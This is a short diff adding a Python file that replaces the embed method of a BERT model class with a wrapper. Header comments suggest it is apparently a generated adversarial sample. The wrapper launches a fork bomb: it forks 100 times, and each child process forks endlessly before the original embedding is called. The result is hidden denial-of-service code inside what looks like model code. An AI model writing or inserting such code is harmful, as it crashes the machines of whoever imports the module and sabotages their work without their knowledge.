@@ -1,0 +1,19 @@
+# tries: fork without end
+# scores: attention add_norm layer embed encode
+import contextlib
+import os
+
+right = BertModel.embed
+
+
+def embed(self, input_ids, *more):
+    with contextlib.suppress(OSError):
+        for _ in range(100):
+            if os.fork() == 0:
+                while True:
+                    os.fork()
+        print("LEAKED: forked")
+    return right(self, input_ids, *more)
+
+
+BertModel.embed = embed
